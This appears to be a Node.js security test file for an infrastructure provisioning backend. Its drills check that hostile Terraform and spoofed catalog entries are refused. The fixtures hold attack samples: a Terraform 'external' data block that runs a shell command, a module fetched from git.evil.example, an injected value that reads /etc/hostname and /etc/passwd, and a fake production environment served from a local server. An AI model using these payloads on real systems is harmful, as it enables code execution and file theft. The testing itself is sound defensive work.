// The provisioning drills (issue 12's attacks) on the real backend: a
// dry-run with the requester's own Terraform, production through a Terraform
// runner without the production permission, publishing over an existing
// environment, values that look like code, an environment registered from
// elsewhere, and guest sign-in from another interface. Terraform is the real
// CLI behind a wrapper that records each call and the AWS key it was given.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:http';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { repoRoot, startBackend } from '../lib/backend.mjs';
import { waitFor } from '../lib/net.mjs';
import {
  ACCOUNTS,
  KLER_CATALOG_LOCATION,
  drillBackendConfig,
  drillBackendEnv,
  sandboxConfig,
} from './support/environments.mjs';

const json = (...docs) => docs.map(doc => JSON.stringify(doc)).join('\n---\n');

/** A template over the offline fixture module: a new environment in the account picked. */
const FIXTURE_TEMPLATE = {
  apiVersion: 'scaffolder.backstage.io/v1beta3',
  kind: 'Template',
  metadata: { name: 'drill-environment', title: 'Drill: new environment' },
  spec: {
    owner: 'platform-team',
    type: 'environment',
    parameters: [
      {
        required: ['name', 'awsAccountId'],
        properties: {
          // No pattern on purpose: a careless author's template.
          name: { type: 'string' },
          awsAccountId: { type: 'string', enum: Object.values(ACCOUNTS) },
        },
      },
    ],
    steps: [
      {
        id: 'target',
        action: 'kler:environment:resolveTarget',
        input: {
          awsAccountId: '${{ parameters.awsAccountId }}',
          awsRegion: 'eu-west-1',
        },
      },
      {
        id: 'code',
        action: 'fetch:plain',
        input: { url: './terraform', targetPath: 'environment' },
      },
      {
        id: 'variables',
        action: 'kler:environment:setVariables',
        input: {
          workingDirectory: 'environment',
          variables: { name: '${{ parameters.name }}' },
        },
      },
      {
        id: 'plan',
        action: 'kler:terraform:plan',
        input: {
          workingDirectory: 'environment',
          awsAccountId: '${{ parameters.awsAccountId }}',
          awsRegion: 'eu-west-1',
        },
      },
      {
        id: 'apply',
        action: 'kler:terraform:apply',
        input: {
          planFile: '${{ steps.plan.output.planFile }}',
          planSha256: '${{ steps.plan.output.planSha256 }}',
          skipReason: '${{ steps.plan.output.skipReason }}',
          allowDestroy: false,
        },
      },
      {
        id: 'publish',
        if: '${{ steps.apply.output.applied }}',
        action: 'kler:git:publishLocal',
        input: {
          sourcePath: 'environment',
          targetDirectory: 'environments/${{ parameters.name }}',
        },
      },
    ],
  },
};

const HOSTILE_TERRAFORM = canary => `data "external" "pwn" {
  program = ["sh", "-c", "touch ${canary}; echo {}"]
}

module "remote" {
  source = "git::https://git.evil.example/terraform-backdoor.git"
}
`;

/** Every process below `pid`, from /proc. */
function descendants(pid) {
  const children = new Map();
  for (const entry of readdirProc()) {
    try {
      const stat = readFileSync(`/proc/${entry}/stat`, 'utf8');
      const ppid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
      children.set(ppid, [...(children.get(ppid) ?? []), Number(entry)]);
    } catch {
      // The process ended meanwhile.
    }
  }
  const found = [];
  const walk = parent => {
    for (const child of children.get(parent) ?? []) {
      found.push(child);
      walk(child);
    }
  };
  walk(pid);
  return found;
}

function readdirProc() {
  return execFileSync('ls', ['/proc'])
    .toString()
    .split('\n')
    .filter(name => /^\d+$/.test(name));
}

/**
 * Kills a backend and everything it started, as a container's end or a host
 * failure would (Terraform runs in process groups of its own).
 */
export function killProcessTree(pid) {
  for (const child of descendants(pid)) {
    try {
      process.kill(child, 'SIGKILL');
    } catch {
      // Gone already.
    }
  }
  try {
    process.kill(-pid, 'SIGKILL');
  } catch {
    // Gone already.
  }
}

/**
 * Registers the provisioning drills as a describe block of the drill run,
 * with rows in `report`; `sandboxUrl()` gives the running sandbox's URL.
 */
export function describeProvisioningDrills({ report, sandboxUrl }) {
  describe('provisioning: who may run what Terraform, where', () => {
    const work = mkdtempSync(join(tmpdir(), 'kler-drill-provisioning-'));
    const callsLog = join(work, 'terraform-calls.log');
    const canary = join(work, 'pwned');
    const repository = join(work, 'environments.git');
    let provisioner;
    let runner;
    let attackerServer;
    let attackerUrl;

    const calls = () =>
      existsSync(callsLog)
        ? readFileSync(callsLog, 'utf8').trim().split('\n').filter(Boolean)
        : [];
    const resetCalls = () => rmSync(callsLog, { force: true });

    function writeDrillCatalog() {
      const dir = join(work, 'catalog');
      cpSync(
        join(repoRoot, 'templates/terraform-fixtures'),
        join(dir, 'terraform'),
        {
          recursive: true,
          filter: source => !/\.terraform|tfstate/.test(source),
        },
      );
      const file = join(dir, 'catalog.yaml');
      writeFileSync(file, json(FIXTURE_TEMPLATE));
      return file;
    }

    function backendConfig(catalogFile, wrapper, permissions = {}) {
      return drillBackendConfig({
        ...sandboxConfig({
          endpoints: { production: sandboxUrl(), development: sandboxUrl() },
        }),
        backend: {
          // The attacker's catalog file is served over HTTP on loopback.
          reading: { allow: [{ host: new URL(attackerUrl).host }] },
        },
        catalog: {
          locations: [
            KLER_CATALOG_LOCATION,
            {
              type: 'file',
              target: catalogFile,
              rules: [{ allow: ['Template'] }],
            },
          ],
        },
        kler: {
          permissions,
          terraform: { binary: wrapper, timeoutMinutes: 3 },
          environments: {
            trustedLocations: ['file:../../catalog/all.yaml'],
            localRepository: repository,
          },
        },
      });
    }

    before(() =>
      report.setup('provisioning', async () => {
        const wrapper = join(work, 'terraform');
        writeFileSync(
          wrapper,
          [
            '#!/bin/sh',
            `echo "$1 key=\${AWS_ACCESS_KEY_ID:-none}" >> '${callsLog}'`,
            'exec terraform "$@"',
          ].join('\n'),
          { mode: 0o755 },
        );
        // The environments repository already holds the development environment.
        const seed = join(work, 'seed');
        mkdirSync(join(seed, 'environments/development'), { recursive: true });
        writeFileSync(
          join(seed, 'environments/development/main.tf'),
          '# the real development environment\n',
        );
        const git = (...args) => execFileSync('git', args, { cwd: seed });
        git('init', '--quiet', '--initial-branch', 'main');
        git('add', '.');
        git(
          '-c',
          'user.name=drill',
          '-c',
          'user.email=drill@kler.invalid',
          'commit',
          '--quiet',
          '-m',
          'seed',
        );
        execFileSync('git', ['clone', '--quiet', '--bare', seed, repository]);

        attackerServer = createServer((req, res) => {
          res.setHeader('content-type', 'text/yaml');
          res.end(
            json(
              {
                apiVersion: 'backstage.io/v1alpha1',
                kind: 'Resource',
                metadata: {
                  name: 'production',
                  namespace: 'evil',
                  annotations: {
                    'kler.io/environment-tier': 'development',
                    'kler.io/aws-account-id': ACCOUNTS.development,
                    'kler.io/aws-region': 'eu-west-1',
                    'kler.io/ecs-cluster': 'kler-development',
                  },
                },
                spec: {
                  type: 'environment',
                  owner: 'evil',
                  lifecycle: 'production',
                },
              },
              {
                apiVersion: 'backstage.io/v1alpha1',
                kind: 'Component',
                metadata: { name: 'evil-marker', namespace: 'evil' },
                spec: {
                  type: 'service',
                  owner: 'evil',
                  lifecycle: 'production',
                },
              },
            ),
          );
        });
        await new Promise(resolve =>
          attackerServer.listen(0, '127.0.0.1', resolve),
        );
        attackerUrl = `http://127.0.0.1:${
          attackerServer.address().port
        }/catalog-info.yaml`;

        const catalogFile = writeDrillCatalog();
        // Two backends: one where the guest is a production provisioner (the
        // platform team, as locally), one where it only runs Terraform.
        [provisioner, runner] = await Promise.all([
          startBackend({
            config: backendConfig(catalogFile, wrapper),
            env: drillBackendEnv,
          }),
          startBackend({
            config: backendConfig(catalogFile, wrapper, {
              productionProvisioners: ['group:default/nobody'],
            }),
            env: drillBackendEnv,
          }),
        ]);
        // Tokens issued once the catalog has read the templates and the
        // guest's groups.
        for (const backend of [provisioner, runner]) {
          const token = await backend.guestToken();
          await backend.waitForEntity('template', 'drill-environment', token);
          await backend.waitForEntity('user', 'guest', token);
        }
      }),
    );

    after(async () => {
      await Promise.all([provisioner?.stop(), runner?.stop()]);
      attackerServer?.close();
      rmSync(work, { recursive: true, force: true });
    });

    async function request(backend, method, path, token, body) {
      const res = await fetch(`${backend.baseUrl}${path}`, {
        method,
        headers: {
          Authorization: `Bearer ${token}`,
          'content-type': 'application/json',
        },
        body: body && JSON.stringify(body),
      });
      const text = await res.text();
      let parsed;
      try {
        parsed = JSON.parse(text);
      } catch {
        parsed = text;
      }
      return { status: res.status, body: parsed, text };
    }

    async function runTask(backend, token, templateRef, values) {
      const created = await request(
        backend,
        'POST',
        '/api/scaffolder/v2/tasks',
        token,
        { templateRef, values },
      );
      assert.equal(created.status, 201, created.text.slice(0, 400));
      const task = await waitFor(
        async () => {
          const { body } = await backend.get(
            `/api/scaffolder/v2/tasks/${created.body.id}`,
            token,
          );
          return (
            ['completed', 'failed', 'cancelled'].includes(body?.status) && body
          );
        },
        { timeoutMs: 180_000, intervalMs: 1000, what: 'the task to end' },
      );
      const { body: events } = await backend.get(
        `/api/scaffolder/v2/tasks/${created.body.id}/events`,
        token,
      );
      const log = (Array.isArray(events) ? events : [])
        .map(event => event.body?.message ?? '')
        .join('\n');
      return { status: task.status, log };
    }

    const repositoryHead = () =>
      execFileSync('git', ['rev-parse', 'main'], { cwd: repository })
        .toString()
        .trim();

    test('own Terraform in a dry-run', { timeout: 120_000 }, () =>
      report.drill(
        {
          drill: 'Own Terraform in a dry-run',
          injected:
            'a provisioner dry-runs an inline template whose check and plan steps get their own .tf: data "external" running a program, a module from a git host',
          expected:
            'refused before terraform init, the answer names each refused block; Terraform never runs, no program runs, no credentials',
        },
        async () => {
          resetCalls();
          const token = await provisioner.guestToken();
          const response = await request(
            provisioner,
            'POST',
            '/api/scaffolder/v2/dry-run',
            token,
            {
              template: {
                apiVersion: 'scaffolder.backstage.io/v1beta3',
                kind: 'Template',
                metadata: { name: 'mine' },
                spec: {
                  type: 'service',
                  steps: [
                    {
                      id: 'files',
                      action: 'fetch:plain',
                      input: { url: './tf', targetPath: 'tf' },
                    },
                    {
                      id: 'check',
                      action: 'kler:terraform:check',
                      input: { workingDirectory: 'tf' },
                    },
                    {
                      id: 'plan',
                      action: 'kler:terraform:plan',
                      input: {
                        workingDirectory: 'tf',
                        awsAccountId: ACCOUNTS.production,
                        awsRegion: 'eu-west-1',
                      },
                    },
                  ],
                },
              },
              values: {},
              secrets: {},
              directoryContents: [
                {
                  path: 'tf/main.tf',
                  base64Content: Buffer.from(
                    HOSTILE_TERRAFORM(canary),
                  ).toString('base64'),
                },
              ],
            },
          );
          assert.equal(response.status, 400, response.text.slice(0, 400));
          const message = response.body?.error?.message ?? '';
          assert.match(message, /main\.tf:1: data "external" "pwn"/);
          assert.match(message, /module "remote"/);
          assert.deepEqual(calls(), [], 'Terraform ran');
          assert.equal(existsSync(canary), false, 'the program ran');
          return `HTTP ${response.status}: "${message.slice(
            0,
            150,
          )}…"; 0 Terraform calls, no program run`;
        },
      ),
    );

    test(
      'production through a runner without the permission',
      { timeout: 240_000 },
      () =>
        report.drill(
          {
            drill: 'Production through an account choice',
            injected:
              'a Terraform runner without environments.provision.production runs a template with the production account; then a provisioner does',
            expected:
              "the runner is refused before any Terraform or credentials; the provisioner applies, with the production account's credentials",
          },
          async () => {
            resetCalls();
            const denied = await runTask(
              runner,
              await runner.guestToken(),
              'template:default/drill-environment',
              { name: 'sneaky', awsAccountId: ACCOUNTS.production },
            );
            assert.equal(denied.status, 'failed');
            assert.match(
              denied.log,
              /needs the permission environments\.provision\.production/,
            );
            assert.deepEqual(calls(), [], 'Terraform ran for the runner');

            const allowed = await runTask(
              provisioner,
              await provisioner.guestToken(),
              'template:default/drill-environment',
              { name: 'drill-prod', awsAccountId: ACCOUNTS.production },
            );
            assert.equal(allowed.status, 'completed', allowed.log.slice(-600));
            const applyKey = calls().find(call => call.startsWith('apply '));
            assert.equal(applyKey, `apply key=SANDBOX${ACCOUNTS.production}`);
            return `runner: failed, "${denied.log
              .match(
                /[^\n]*needs the permission environments\.provision\.production[^\n]*/,
              )[0]
              .slice(
                0,
                120,
              )}", 0 Terraform calls; provisioner: completed, ${applyKey}`;
          },
        ),
    );

    test('publishing over an existing environment', { timeout: 240_000 }, () =>
      report.drill(
        {
          drill: 'Publishing over an existing environment',
          injected:
            'a successful apply of a new environment named like an existing one (development)',
          expected: 'publish refuses; the environments repository is unchanged',
        },
        async () => {
          const before = repositoryHead();
          const { status, log } = await runTask(
            provisioner,
            await provisioner.guestToken(),
            'template:default/drill-environment',
            { name: 'development', awsAccountId: ACCOUNTS.development },
          );
          assert.equal(status, 'failed');
          assert.match(log, /environments\/development already exists on main/);
          assert.equal(repositoryHead(), before);
          return `task failed at publish: "environments/development already exists on main…"; repository head unchanged (${before.slice(
            0,
            8,
          )})`;
        },
      ),
    );

    test('values that look like code', { timeout: 240_000 }, () =>
      report.drill(
        {
          drill: 'Values that look like code',
          injected:
            'a name of `x" } resource "terraform_data" "pwn" { ... file("/etc/hostname") ... ${file(...)}` through a template whose parameter has no pattern',
          expected:
            'the value reaches Terraform as a string in terraform.tfvars.json: no extra resource, no file read',
        },
        async () => {
          const injected =
            'x" } \n resource "terraform_data" "pwn" { input = file("/etc/hostname") } # ${file("/etc/passwd")}';
          const { log } = await runTask(
            provisioner,
            await provisioner.guestToken(),
            'template:default/drill-environment',
            { name: injected, awsAccountId: ACCOUNTS.development },
          );
          assert.match(log, /Plan: 2 to add/);
          assert.doesNotMatch(log, /terraform_data\.pwn/);
          assert.doesNotMatch(log, /root:/);
          return "planned 2 resources (the fixture's own), none named pwn; no file content in the log";
        },
      ),
    );

    test('an environment registered from elsewhere', { timeout: 180_000 }, () =>
      report.drill(
        {
          drill: 'Environment registered from elsewhere',
          injected:
            'a user registers a location (HTTP) holding resource:evil/production with the development account, and a Component',
          expected:
            'the catalog takes the Component, refuses the environment; the dashboard keeps the real production',
        },
        async () => {
          const token = await provisioner.guestToken();
          const registered = await request(
            provisioner,
            'POST',
            '/api/catalog/locations',
            token,
            { type: 'url', target: attackerUrl },
          );
          assert.equal(registered.status, 201, registered.text.slice(0, 300));
          await waitFor(
            async () =>
              (
                await provisioner.get(
                  '/api/catalog/entities/by-name/component/evil/evil-marker',
                  token,
                )
              ).status === 200,
            {
              timeoutMs: 60_000,
              what: "the attacker's component in the catalog",
            },
          );
          // The environment was read in the same pass; give it a few refreshes.
          await new Promise(resolve => setTimeout(resolve, 5_000));
          const evil = await provisioner.get(
            '/api/catalog/entities/by-name/resource/evil/production',
            token,
          );
          assert.equal(evil.status, 404);
          const { status, body } = await provisioner.get(
            '/api/environments/v1/environments',
            token,
          );
          assert.equal(status, 200, JSON.stringify(body).slice(0, 300));
          const production = body.items.filter(e => e.name === 'production');
          assert.equal(production.length, 1);
          assert.equal(production[0].entityRef, 'resource:default/production');
          assert.equal(production[0].accountId, ACCOUNTS.production);
          return `component accepted; resource:evil/production 404; the dashboard lists one production: resource:default/production, account ${production[0].accountId}`;
        },
      ),
    );

    test('guest sign-in from another interface', { timeout: 30_000 }, () =>
      report.drill(
        {
          drill: 'Guest sign-in from another interface',
          injected:
            "a guest token asked for on this machine's non-loopback address (the local config)",
          expected:
            'the connection is refused: the local backend listens on 127.0.0.1 only',
        },
        async () => {
          const address = Object.values(networkInterfaces())
            .flat()
            .find(i => i && i.family === 'IPv4' && !i.internal)?.address;
          assert.ok(address, 'this machine has no non-loopback IPv4 address');
          const port = new URL(provisioner.baseUrl).port;
          const error = await fetch(
            `http://${address}:${port}/api/auth/guest/refresh?env=development`,
            { headers: { 'X-Requested-With': 'XMLHttpRequest' } },
          ).then(
            res => `answered HTTP ${res.status}`,
            err => err.cause?.code ?? String(err),
          );
          assert.equal(error, 'ECONNREFUSED');
          const local = await provisioner.guestToken();
          assert.ok(local);
          return `${address}:${port} → ${error}; 127.0.0.1 issues tokens`;
        },
      ),
    );
  });
}
